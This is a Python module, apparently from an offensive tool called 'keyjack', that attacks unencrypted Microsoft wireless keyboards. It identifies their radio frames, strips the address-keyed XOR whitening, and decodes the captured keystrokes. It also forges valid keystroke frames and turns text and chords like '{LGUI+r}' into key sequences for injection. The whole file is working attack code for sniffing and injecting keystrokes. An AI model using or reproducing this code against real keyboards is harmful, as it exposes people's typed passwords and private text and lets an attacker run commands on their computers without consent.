"""Microsoft wireless-keyboard payload layer.

Detection, de-whitening, HID keystroke decode and keystroke frame
construction for the pre-2015 unencrypted protocol family.  A keyboard is
recognized by a pipe address starting 0xCD and a payload opening with
device type 0x0A followed by packet type 0x78 (keystroke) or 0x38 (idle).
The only obfuscation is an XOR of payload bytes 4 onward with the pipe
address, repeated cyclically; the first four bytes travel in clear, which
is why detection works before de-whitening.
"""
from __future__ import annotations

import re
from dataclasses import dataclass
from importlib import resources

from .esb import EsbFrame, MacAddress

DEVICE_TYPE_KEYBOARD = 0x0A
PACKET_TYPE_KEYSTROKE = 0x78
PACKET_TYPE_IDLE = 0x38
MS_ADDRESS_PREFIX = 0xCD
PAYLOAD_LEN = 16
CLEARTEXT_PREFIX_LEN = 4
HID_CODE_OFFSET = 9
DEFAULT_MODEL_ID = b"\x08\x00"

MOD_LCTRL = 0x01
MOD_LSHIFT = 0x02
MOD_LALT = 0x04
MOD_LGUI = 0x08
MOD_RCTRL = 0x10
MOD_RSHIFT = 0x20
MOD_RALT = 0x40
MOD_RGUI = 0x80
_SHIFT_MASK = MOD_LSHIFT | MOD_RSHIFT

_MODIFIER_NAMES = {
    "LCTRL": MOD_LCTRL, "LSHIFT": MOD_LSHIFT, "LALT": MOD_LALT, "LGUI": MOD_LGUI,
    "RCTRL": MOD_RCTRL, "RSHIFT": MOD_RSHIFT, "RALT": MOD_RALT, "RGUI": MOD_RGUI,
    "CTRL": MOD_LCTRL, "SHIFT": MOD_LSHIFT, "ALT": MOD_LALT, "GUI": MOD_LGUI,
}

# non-printable keys addressable from chord syntax, e.g. "{LGUI+r}" or "{ENTER}"
NAMED_KEYS = {
    "ENTER": 0x28, "ESC": 0x29, "BACKSPACE": 0x2A, "TAB": 0x2B, "SPACE": 0x2C,
    "DELETE": 0x4C, "RIGHT": 0x4F, "LEFT": 0x50, "DOWN": 0x51, "UP": 0x52,
    **{f"F{n}": 0x3A + n - 1 for n in range(1, 13)},
}


@dataclass(frozen=True)
class MsKbPacket:
    """De-whitened keyboard payload fields."""

    device_type: int
    packet_type: int
    model_id: bytes
    sequence: int
    modifiers: int
    hid_code: int

    @property
    def is_keystroke(self) -> bool:
        return self.packet_type == PACKET_TYPE_KEYSTROKE


@dataclass(frozen=True)
class Keystroke:
    """One decoded key event attributed to a keyboard, channel and time."""

    char: str | None
    hid_code: int
    modifiers: int
    pressed: bool
    t: int
    mac: MacAddress
    channel: int
    sequence: int = 0


class Keymap:
    """HID usage id to glyph table, loaded from a keymap data file."""

    def __init__(self, entries: dict[int, tuple[str, str]], name: str = "custom"):
        self.name = name
        self._by_hid = dict(entries)
        self._by_char: dict[str, tuple[int, int]] = {}
        for hid, (base, shifted) in entries.items():
            self._by_char.setdefault(base, (hid, 0))
            self._by_char.setdefault(shifted, (hid, MOD_LSHIFT))

    _LINE_RE = re.compile(r"^hid=([0-9A-Fa-f]{2}) base=(\\s|.) shift=(\\s|.)$")

    @classmethod
    def from_text(cls, text: str, name: str = "custom") -> "Keymap":
        entries: dict[int, tuple[str, str]] = {}
        for lineno, line in enumerate(text.splitlines(), start=1):
            if not line.strip() or line.lstrip().startswith("#"):
                continue
            m = cls._LINE_RE.match(line)
            if m is None:
                raise ValueError(f"keymap line {lineno} malformed: {line!r}")
            glyphs = tuple(" " if g == r"\s" else g for g in (m.group(2), m.group(3)))
            entries[int(m.group(1), 16)] = (glyphs[0], glyphs[1])
        return cls(entries, name=name)

    def char_for(self, hid_code: int, modifiers: int) -> str | None:
        entry = self._by_hid.get(hid_code)
        if entry is None:
            return None
        return entry[1] if modifiers & _SHIFT_MASK else entry[0]

    def key_for_char(self, char: str) -> tuple[int, int]:
        try:
            return self._by_char[char]
        except KeyError:
            raise ValueError(f"character {char!r} has no key on layout {self.name}") from None


_default_keymap: Keymap | None = None


def default_keymap() -> Keymap:
    global _default_keymap
    if _default_keymap is None:
        text = resources.files("keyjack.data").joinpath("us_qwerty.txt").read_text()
        _default_keymap = Keymap.from_text(text, name="us_qwerty")
    return _default_keymap


def hid_to_char(hid_code: int, modifiers: int = 0, keymap: Keymap | None = None) -> str | None:
    """US-QWERTY glyph for a keyboard-page usage id, or None if unprintable."""
    if hid_code == 0:
        return None
    return (keymap or default_keymap()).char_for(hid_code, modifiers)


def descramble(payload: bytes, mac: MacAddress) -> bytes:
    """XOR payload bytes from offset 4 with the address, cyclically.

    Self-inverse, so the same call whitens outgoing payloads.  Byte 9, the
    key code slot, always meets address octet 0 since (9-4) mod 5 == 0.
    """
    if len(payload) < CLEARTEXT_PREFIX_LEN:
        raise ValueError(f"payload too short to descramble: {len(payload)} octets")
    out = bytearray(payload)
    for i in range(CLEARTEXT_PREFIX_LEN, len(out)):
        out[i] ^= mac[(i - CLEARTEXT_PREFIX_LEN) % len(mac.octets)]
    return bytes(out)


def is_ms_keyboard(frame: EsbFrame) -> bool:
    """Address starts 0xCD and the clear prefix reads 0x0A then 0x78/0x38."""
    return (
        frame.address[0] == MS_ADDRESS_PREFIX
        and len(frame.payload) >= 2
        and frame.payload[0] == DEVICE_TYPE_KEYBOARD
        and frame.payload[1] in (PACKET_TYPE_KEYSTROKE, PACKET_TYPE_IDLE)
    )


def decode(frame: EsbFrame) -> MsKbPacket | None:
    """De-whiten and split a keyboard frame into fields; None if not one."""
    if not is_ms_keyboard(frame) or len(frame.payload) != PAYLOAD_LEN:
        return None
    plain = descramble(frame.payload, frame.address)
    return MsKbPacket(
        device_type=plain[0],
        packet_type=plain[1],
        model_id=plain[2:4],
        sequence=plain[4] | (plain[5] << 8),
        modifiers=plain[7],
        hid_code=plain[HID_CODE_OFFSET],
    )


def _xor_checksum(data: bytes) -> int:
    value = 0
    for b in data:
        value ^= b
    return value


def encode_keystroke(key: Keystroke, mac: MacAddress, sequence: int) -> EsbFrame:
    """Forge a keyboard frame carrying one key event.

    Builds the 16-octet plaintext layout (types, model id, little-endian
    sequence, modifiers, key code, XOR tail checksum), whitens bytes 4+
    with the address and wraps the result in a CRC-valid frame.
    """
    if mac[0] != MS_ADDRESS_PREFIX:
        raise ValueError("refusing to forge a frame for a non-0xCD address")
    if key.pressed and key.hid_code == 0:
        raise ValueError("a pressed keystroke needs a non-zero key code")
    if not 0 <= sequence <= 0xFFFF:
        raise ValueError("sequence out of range")
    plain = bytearray(PAYLOAD_LEN)
    plain[0] = DEVICE_TYPE_KEYBOARD
    plain[1] = PACKET_TYPE_KEYSTROKE if key.pressed else PACKET_TYPE_IDLE
    plain[2:4] = DEFAULT_MODEL_ID
    plain[4] = sequence & 0xFF
    plain[5] = (sequence >> 8) & 0xFF
    plain[7] = key.modifiers
    plain[HID_CODE_OFFSET] = key.hid_code
    plain[15] = _xor_checksum(plain[:15])
    payload = descramble(bytes(plain), mac)
    return EsbFrame.build(mac, payload, pid=sequence & 3)


def packet_to_keystroke(pkt: MsKbPacket, mac: MacAddress, channel: int, t: int,
                        keymap: Keymap | None = None) -> Keystroke:
    pressed = pkt.is_keystroke
    return Keystroke(
        char=hid_to_char(pkt.hid_code, pkt.modifiers, keymap) if pressed else None,
        hid_code=pkt.hid_code,
        modifiers=pkt.modifiers,
        pressed=pressed,
        t=t,
        mac=mac,
        channel=channel,
        sequence=pkt.sequence,
    )


_CHORD_RE = re.compile(r"\{([^{}]+)\}")


def text_to_keystrokes(text: str, keymap: Keymap | None = None) -> list[tuple[int, int]]:
    """Expand text into (hid_code, modifiers) pairs ready for injection.

    Plain characters go through the keymap.  Brace groups name chords:
    "{ENTER}", "{LGUI+r}", "{CTRL+ALT+DELETE}".  Raises on characters the
    layout cannot produce or on unknown chord parts.
    """
    km = keymap or default_keymap()
    keys: list[tuple[int, int]] = []
    i = 0
    while i < len(text):
        if text[i] == "{":
            m = _CHORD_RE.match(text, i)
            if m is None:
                raise ValueError(f"unterminated chord at position {i}")
            keys.append(_parse_chord(m.group(1), km))
            i = m.end()
        else:
            keys.append(km.key_for_char(text[i]))
            i += 1
    return keys


def _parse_chord(chord: str, keymap: Keymap) -> tuple[int, int]:
    parts = [p.strip() for p in chord.split("+")]
    modifiers = 0
    for part in parts[:-1]:
        try:
            modifiers |= _MODIFIER_NAMES[part.upper()]
        except KeyError:
            raise ValueError(f"unknown modifier {part!r} in chord {chord!r}") from None
    last = parts[-1]
    upper = last.upper()
    if upper in NAMED_KEYS:
        return NAMED_KEYS[upper], modifiers
    if len(last) == 1:
        hid, mods = keymap.key_for_char(last)
        return hid, mods | modifiers
    raise ValueError(f"unknown key {last!r} in chord {chord!r}")
